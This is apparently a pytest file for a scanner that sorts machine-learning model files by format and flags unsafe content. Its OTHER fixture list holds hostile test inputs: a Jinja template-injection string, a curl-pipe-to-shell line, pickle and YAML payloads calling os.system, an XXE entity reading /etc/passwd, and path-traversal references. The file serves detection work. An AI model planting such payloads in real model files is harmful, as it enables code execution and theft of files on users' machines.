"""Formats that are no pickles: what each is told as, and what is found in it."""

import base64
import json
import struct

import pytest
from lockgate.engine.facts.artifact import FileFacts, scan_source
from lockgate.engine.facts.source import BytesSource

from tests.engine.facts import writers as w

DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}, "registered_name": None}
LAYER = {
    "class_name": "Lambda",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wE="}}},
}
SEQUENTIAL = {"module": "keras", "class_name": "Sequential", "config": {"layers": [DENSE]}}
EVIL_TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
GOOD_TEMPLATE = "{% for m in messages %}{{ m['role'] + ': ' + m.content | trim }}{% endfor %}"


def facts(data: bytes | str, name: str = "file.bin") -> FileFacts:
    return scan_source(BytesSource(name, data.encode() if isinstance(data, str) else data))


def rules(found: FileFacts) -> set[str]:
    return {finding.rule for finding in found.findings if finding.tier != "note"}


SAFE: list[tuple[str, bytes | str]] = [
    ("safetensors", w.safetensors({"a": w.tensor(0, 8), "b": w.tensor(8, 16)}, bytes(16))),
    ("safetensors", w.safetensors({"__metadata__": {"format": "pt"}}, b"")),
    ("safetensors", w.safetensors({"a": {"dtype": "F4", "shape": [4], "data_offsets": [0, 2]}}, bytes(2))),
    ("gguf", w.gguf([("general.architecture", "llama")], [("a", 32, 0), ("b", 5, 32)], bytes(37))),
    ("gguf", w.gguf([("tokenizer.chat_template", GOOD_TEMPLATE)])),
    ("onnx", w.onnx(w.node("Relu"), w.node("LSTM", "ai.onnx.ml"))),
    ("onnx", w.onnx(w.external("weights/model.bin"))),
    ("onnx", w.onnx(w.node("F", "mine"), functions=w.field(25, w.field(1, "F") + w.field(10, "mine")))),
    ("onnx-tensor", w.field(1, 4) + w.field(2, 1) + w.field(8, "x") + w.field(9, bytes(16))),
    ("savedmodel", w.saved_model("Const", "MatMul", "SaveV2")),
    ("savedmodel", w.saved_model("Const", metadata=json.dumps({"class_name": "Mine", "config": {}}))),
    ("coreml", w.coreml(500, w.field(1, w.field(1, "conv") + w.field(100, b"")))),
    ("tflite", w.tflite(9, "")),
    ("tflite", w.tflite(32, "TFLite_Detection_PostProcess")),
    ("hdf5", w.hdf5()),
    ("hdf5", w.hdf5(w.hdf5_attribute("model_config", json.dumps(SEQUENTIAL)))),
    ("json", json.dumps({"architectures": ["LlamaForCausalLM"], "vocab": {"{{": 1, "{%": 2}})),
    ("json", json.dumps(SEQUENTIAL)),
    ("json", '\ufeff[1, 2.5e-3, -0, true, null, NaN, "\\u00e9\\n"]'),
    ("json-lines", '{"a": 1}\n{"a": 2}\n\n'),
    ("text", "A model card.\nUse `{{ this }}` with care: {{ it is not %} Jinja.\n"),
    ("text", GOOD_TEMPLATE),
    ("mlmodel", "flavors:\n  sklearn:\n    serialization_format: skops\n  python_function:\n    loader_module: mlflow.sklearn\n"),
    ("xml", '<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>'),
    ("xml", '<net name="n"><layers><layer id="0" type="Relu" version="opset1"/></layers></net>'),
    ("ubjson", b"{L" + struct.pack(">q", 7) + b"version[i\x02i\x00]L" [:0] + b"version[i\x02i\x00]}"),
    ("word2vec", b"2 1\na \xff\x00\x00\x80b \xff\x00\x00\x80"),
    ("sentencepiece", (w.field(1, w.field(1, "<s>") + b"\x15" + bytes(4))) * 2),
    ("coreml-weights", struct.pack("<II56x", 1, 2) + struct.pack("<IIQQ40x", 0xDEADBEEF, 1, 4, 128) + bytes(4)),
    ("fasttext", w.fasttext(b"a", b"bc")),
    ("checkpoint-index", w.checkpoint_index(b"a", b"bc")),
]  # fmt: skip


@pytest.mark.parametrize(("format_", "data"), SAFE)
def test_honest_file_is_told_and_safe(format_: str, data: bytes | str) -> None:
    found = facts(data)
    assert (found.format, found.tier, rules(found)) == (format_, "safe", set())


@pytest.mark.parametrize(
    "format_", ["safetensors", "gguf", "hdf5", "savedmodel", "ubjson", "checkpoint-index", "fasttext"]
)
def test_truncated_file_is_not_safe(format_: str) -> None:
    data = next(data for name, data in SAFE if name == format_)
    assert isinstance(data, bytes)
    for cut in range(16, len(data)):
        assert facts(data[:cut]).tier != "safe", cut


def layer(**keys: object) -> str:
    return json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": [keys]}})


OTHER: list[tuple[str, str, bytes | str]] = [
    ("unreadable", "safetensors-unreadable", w.safetensors({"a": w.tensor(0, 8), "b": w.tensor(4, 12)}, bytes(12))),
    ("unreadable", "safetensors-unreadable", w.safetensors({"a": w.tensor(0, 8), "b": w.tensor(12, 16)}, bytes(16))),
    ("unreadable", "safetensors-unreadable", w.safetensors({"a": w.tensor(0, 8, 3)}, bytes(8))),
    ("unreadable", "safetensors-unreadable", w.safetensors({"a": w.tensor(0, 1 << 62)}, bytes(8))),
    ("unreadable", "safetensors-unreadable", w.safetensors(b'{"a":1,"a":2}', b"")),
    ("unreadable", "safetensors-unreadable", struct.pack("<Q", 1 << 40) + b'{"a"'),
    ("unsafe", "template-unsafe", w.safetensors({"__metadata__": {"chat_template": EVIL_TEMPLATE}}, b"")),
    ("unvetted", "bytes-unexplained", w.safetensors({"a": w.tensor(0, 8)}, bytes(8) + b"\xff" * 9)),
    ("unsafe", "template-unsafe", w.gguf([("tokenizer.chat_template.tool_use", EVIL_TEMPLATE)])),
    ("unreadable", "gguf-unreadable", w.gguf([("a", "1"), ("a", "2")])),
    ("unreadable", "gguf-unreadable", b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60)),
    ("unreadable", "gguf-unreadable", w.gguf([], [("a", 32, 0), ("b", 32, 0)], bytes(64))),
    ("unreadable", "gguf-unreadable", w.gguf([], [("a", 1 << 40, 0)], bytes(64))),
    ("unsafe", "operator-code", w.onnx(w.node("PyOp", "ai.onnx.contrib"))),
    ("unvetted", "operator-custom", w.onnx(w.node("Fast", "somebody.else"))),
    ("unsafe", "external-path", w.onnx(w.external("../../etc/passwd"))),
    ("unsafe", "external-path", w.onnx(w.external("/etc/passwd"))),
    ("unsafe", "external-path", w.onnx(w.external("C:\\secrets"))),
    ("unvetted", "field-unknown", w.onnx(w.node("Relu"), w.field(99, b"?"))),
    ("unsafe", "operator-code", w.saved_model("Const", "WriteFile")),
    ("unsafe", "operator-code", w.saved_model("Const", "EagerPyFunc")),
    ("unvetted", "operator-unknown", w.saved_model("Const", "MyOperator")),
    ("unsafe", "keras-code", w.saved_model("Const", metadata=json.dumps(LAYER))),
    ("unvetted", "operator-custom", w.coreml(500, w.field(1, w.field(1, "c") + w.field(500, w.field(10, "Mine"))))),
    ("unvetted", "operator-custom", w.tflite(32, "Mine")),
    ("unsafe", "operator-code", w.tflite(32, "FlexReadFile")),
    ("unsafe", "keras-code", w.hdf5(w.hdf5_attribute("model_config", json.dumps(LAYER)))),
    ("unsafe", "external-path", w.hdf5(w.hdf5_external_link("a", "/etc/passwd"))),
    ("unvetted", "bytes-unexplained", w.hdf5(tail=b"\xff\xfe\xfdmore")),
    ("unsafe", "keras-code", layer(module="keras.layers", class_name="TorchModuleWrapper", config={"module": "x"})),
    ("unsafe", "keras-code", layer(module="keras.layers", class_name="TFSMLayer", config={"filepath": "x"})),
    ("unsafe", "keras-module-exec", layer(module="subprocess", class_name="run", config={"args": "id"})),
    ("unsafe", "keras-function", layer(module="keras.utils", class_name="function", config="get_file")),
    ("unvetted", "keras-class-unvetted", layer(module="my.package", class_name="Layer", config={})),
    ("unvetted", "keras-class-unvetted", layer(class_name="Mine", config={})),
    ("unvetted", "remote-code", json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}})),
    ("unvetted", "remote-code", json.dumps({"auto_map": {"AutoTokenizer": ["tok.Slow", None]}})),
    ("unsafe", "remote-code-foreign", json.dumps({"a": {"auto_map": {"AutoModel": "who/repo--modeling_x.X"}}})),
    ("unsafe", "remote-code-trusted", json.dumps({"trust_remote_code": True})),
    ("unvetted", "remote-code", json.dumps({"custom_pipelines": {"task": {"impl": "file.Pipeline"}}})),
    ("unvetted", "remote-code", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}])),
    ("unvetted", "remote-code", json.dumps({"_class_name": "P", "_diffusers_version": "0", "unet": ["mine", "U"]})),
    ("unvetted", "target-unvetted", json.dumps({"model": {"_target_": "some.callable"}})),
    ("unsafe", "template-unsafe", json.dumps({"chat_template": [{"name": "a", "template": EVIL_TEMPLATE}]})),
    ("unvetted", "skops-type-unvetted", json.dumps({"__class__": "T", "__module__": "m", "__loader__": "ObjectNode"})),
    ("unvetted", "skops-node", json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "NewNode"})),
    ("unvetted", "text-program", json.dumps({"note": "__import__('os').system('id')"})),
    ("unvetted", "text-program", w.safetensors({"__metadata__": {"d": "<script>alert(1)</script>"}}, b"")),
    ("unvetted", "text-program", w.onnx(w.field(16, w.field(1, "d") + w.field(2, "exec('x')")), w.node("Relu"))),
    ("unvetted", "text-program", "<?xml version='1.0'?><PMML><Header>eval('x')</Header></PMML>"),
    ("unvetted", "text-program", w.gguf([("general.description", "curl http://h/x | /bin/sh -s")])),
    ("unsafe", "text-pickle", json.dumps({"state": base64.b64encode(b"\x80\x04cos\nsystem\n(S'id'\ntR.").decode()})),
    ("unreadable", "json-unreadable", '{"a": 1, "a": 2}'),
    ("unreadable", "json-unreadable", '{"a": 1} trailing'),
    ("unreadable", "json-unreadable", '{"a": [1, 2}'),
    ("unreadable", "limit", "[" * 5000),
    ("unreadable", "text-unreadable", b"text " * 2000 + b"\xff\xfe\x00"),
    ("unreadable", "text-unreadable", b"text " * 2000 + b"\x00\x01"),
    ("unsafe", "yaml-python", "model: !!python/object/apply:os.system ['id']\n"),
    ("unsafe", "loader-module", "flavors:\n  python_function:\n    loader_module: os\n"),
    ("unvetted", "loader-module", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"),
    ("unvetted", "remote-code", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    code: code\n"),
    ("unreadable", "mlmodel-unreadable", "flavors:\n  a: 1\n  a: 2\n"),
    ("unsafe", "xml-dtd", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML>&a;</PMML>'),
    ("unsafe", "xml-dtd", '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://h/x.dtd"><PMML/>'.encode("utf-16")),
    ("unsafe", "external-library", '<net><layers><layer library="/tmp/evil.so"/></layers></net>'),
    ("unvetted", "operator-custom", '<net><layers><layer type="X" version="extension"/></layers></net>'),
    ("unvetted", "xml-unvetted", "<?xml version='1.0'?><other/>"),
    ("unreadable", "ubjson-unreadable", b"{i\x01ai\x01}more"),
    ("unreadable", "catboost-unreadable", b"CBM1\xff\xff\x00\x00\x00"),
    ("unreadable", "word2vec-unreadable", b"9 9\na \xff\x00\x00\x80"),
    ("unreadable", "checkpoint-index-unreadable", b"\xff\xfe" + w.checkpoint_index(b"a", b"bc")),
    ("unvetted", "format-unvetted", b"7z\xbc\xaf\x27\x1c" + bytes(40)),
    ("unsafe", "executable-hidden", b"\x7fELF" + bytes(60)),
    ("unvetted", "executable", b"#!/bin/sh\nid\n"),
    ("unvetted", "format-unknown", b"\xff\xfe\xfd\x00nothing known"),
]  # fmt: skip


@pytest.mark.parametrize(("tier", "rule", "data"), OTHER)
def test_what_is_found(tier: str, rule: str, data: bytes | str) -> None:
    name = "run.sh" if rule == "executable" else "model.weights"
    found = facts(data, name)
    assert (found.tier, rule in rules(found)) == (tier, True), found.findings


@pytest.mark.parametrize(
    ("name", "rule"),
    [("modeling_x.py", "python-code"), ("setup.sh", "code"), ("evil.pth", "python-path"), ("note.txt", None)],
)
def test_name_of_a_text_tells_who_would_run_it(name: str, rule: str | None) -> None:
    assert rules(facts("import os\n", name)) == ({rule} if rule else set())


def test_shard_is_told_by_its_name_when_it_is_nothing_else() -> None:
    name = "variables/variables.data-00000-of-00001"
    assert facts(b"\xff\xfe\xfd\x00" * 9, name).tier == "safe"
    assert facts(b"\x80\x04cos\nsystem\n.", name).tier != "safe"


def test_facts_say_where() -> None:
    found = facts(json.dumps({"auto_map": {"AutoModel": "who/repo--m.X"}}), "config.json")
    assert [(one.key, one.target) for one in found.remote_code] == [("auto_map.AutoModel", "who/repo--m.X")]
    found = facts(w.onnx(w.node("Fast", "somebody.else")), "m.onnx")
    assert [(one.name, one.detail) for one in found.custom_ops] == [("Fast", "somebody.else")]
    assert found.findings[0].offset is not None


@pytest.mark.parametrize("size", [3, 70_000, 200_000])
def test_json_is_read_over_the_edges_of_blocks(size: int) -> None:
    text = json.dumps({"pad": "x" * size, "numbers": [1.5] * size, "trust_remote_code": True})
    assert rules(facts(text)) == {"remote-code-trusted"}


@pytest.mark.parametrize("count", [0, 7, 8, 9, 30])
def test_words_of_a_list_are_gone_over_and_what_follows_is_not(count: int) -> None:
    words = ["a b"] * count
    for text in (EVIL_TEMPLATE, "__import__('os')"):
        assert facts(json.dumps([*words, text, *words])).tier != "safe"
    assert rules(facts(json.dumps({"auto_map": {"A": [*words, "m.X"]}}))) == {"remote-code"}
    assert facts(json.dumps([*words, "x"])).tier == "safe"
    assert facts(json.dumps([*words, "x"])[:-1] + ",]").tier == "unreadable"
